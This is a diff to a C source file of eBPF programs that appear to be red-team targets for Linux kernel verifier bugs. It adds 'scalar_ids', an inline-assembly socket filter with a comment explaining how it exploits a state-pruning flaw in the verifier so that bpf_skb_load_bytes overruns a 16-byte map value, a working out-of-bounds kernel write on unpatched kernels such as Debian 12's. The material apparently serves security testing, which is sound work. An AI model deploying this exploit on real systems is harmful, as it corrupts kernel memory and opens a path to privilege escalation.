@@ -26,10 +26,12 @@
  *             bpf-freplace-arg's extension (attack_frep.bpf.c) replaces
  *   cb_target bpf-callback-once's socket filter: no packet, a bpf_loop()
  *             callback that moves an offset in its caller's stack (below)
- * Each but fr_target and cb_target reads the word the pointer now points at, writes a mark there,
- * reads it back, looks for the mark in the packet as it now is, and puts
- * the word back: the mark read back and not in the packet is a write to
- * the freed head.
+ *   scalar_ids bpf-scalar-ids's socket filter: a length two paths bound
+ *             differently, one of them pruned (below)
+ * Each but fr_target, cb_target and scalar_ids reads the word the pointer
+ * now points at, writes a mark there, reads it back, looks for the mark in
+ * the packet as it now is, and puts the word back: the mark read back and
+ * not in the packet is a write to the freed head.
  */
 #include <linux/bpf.h>
 #include <bpf/bpf_helpers.h>
@@ -240,4 +242,70 @@ int cb_target(struct __sk_buff *skb)
 		return 0;
 	*(__u64 *)((char *)v + c.off - 8) = CB_MARK;
 	return 1;
+}
+
+/*
+ * bpf-scalar-ids (a red team's, on Debian 12's kernel with the BPF
+ * backend): sc_len and sc_bound are unknown to the verifier (.bss).
+ *
+ *	if sc_len > sc_bound goto l1;	path II jumps
+ *	sc_bound = sc_len;		path I: one scalar, one id, in two registers
+ *   l1:	if sc_bound > 8 or sc_bound < 1 goto out;
+ *	bpf_skb_load_bytes(skb, 0, &sc_victim[0], sc_len);
+ *
+ * On path I the checks of sc_bound bound sc_len too, to [1, 8], within
+ * the 16-byte map value. A verifier that prunes path II at l1 against
+ * path I's state without checking that the registers path I linked are
+ * linked on path II (6.1; 6.5's fix: scalar ids in regsafe() through
+ * check_ids()) never checks path II, where nothing bounds sc_len: run
+ * with sc_len 32 and sc_bound 1, the copy is 32 bytes, over the next
+ * value too (any length, past the map's memory, on such a kernel).
+ * Loaded with BPF_F_TEST_STATE_FREQ, which makes l1 a checkpoint; any
+ * program whose states fall so does without it. CAP_BPF: no pointer
+ * arithmetic, a helper's length.
+ */
+__u64 sc_len, sc_bound;
+
+struct {
+	__uint(type, BPF_MAP_TYPE_ARRAY);
+	__uint(max_entries, 4);
+	__type(key, __u32);
+	__type(value, char[16]);
+} sc_victim SEC(".maps");
+
+SEC("socket")
+__attribute__((naked)) int scalar_ids(void)
+{
+	asm volatile ("r8 = r1;"
+		      "r1 = %[len] ll;"
+		      "r6 = *(u64 *)(r1 + 0);"
+		      "r1 = %[bound] ll;"
+		      "r7 = *(u64 *)(r1 + 0);"
+		      "r1 = 0;"
+		      "*(u32 *)(r10 - 4) = r1;"
+		      "r2 = r10;"
+		      "r2 += -4;"
+		      "r1 = %[victim] ll;"
+		      "call %[lookup];"
+		      "if r0 == 0 goto out_%=;"
+		      "r9 = r0;"
+		      "if r6 > r7 goto l1_%=;"
+		      "r7 = r6;"
+		      "l1_%=:"
+		      "if r7 > 8 goto out_%=;"
+		      "if r7 < 1 goto out_%=;"
+		      "r1 = r8;"
+		      "r2 = 0;"
+		      "r3 = r9;"
+		      "r4 = r6;"
+		      "call %[load_bytes];"
+		      "r0 = 1;"
+		      "exit;"
+		      "out_%=:"
+		      "r0 = 0;"
+		      "exit;"
+		      :: [len]"i"(&sc_len), [bound]"i"(&sc_bound), [victim]"i"(&sc_victim),
+			 [lookup]"i"(BPF_FUNC_map_lookup_elem),
+			 [load_bytes]"i"(BPF_FUNC_skb_load_bytes)
+		      : "r0", "r1", "r2", "r3", "r4", "r5", "r6", "r7", "r8", "r9", "memory");
 }
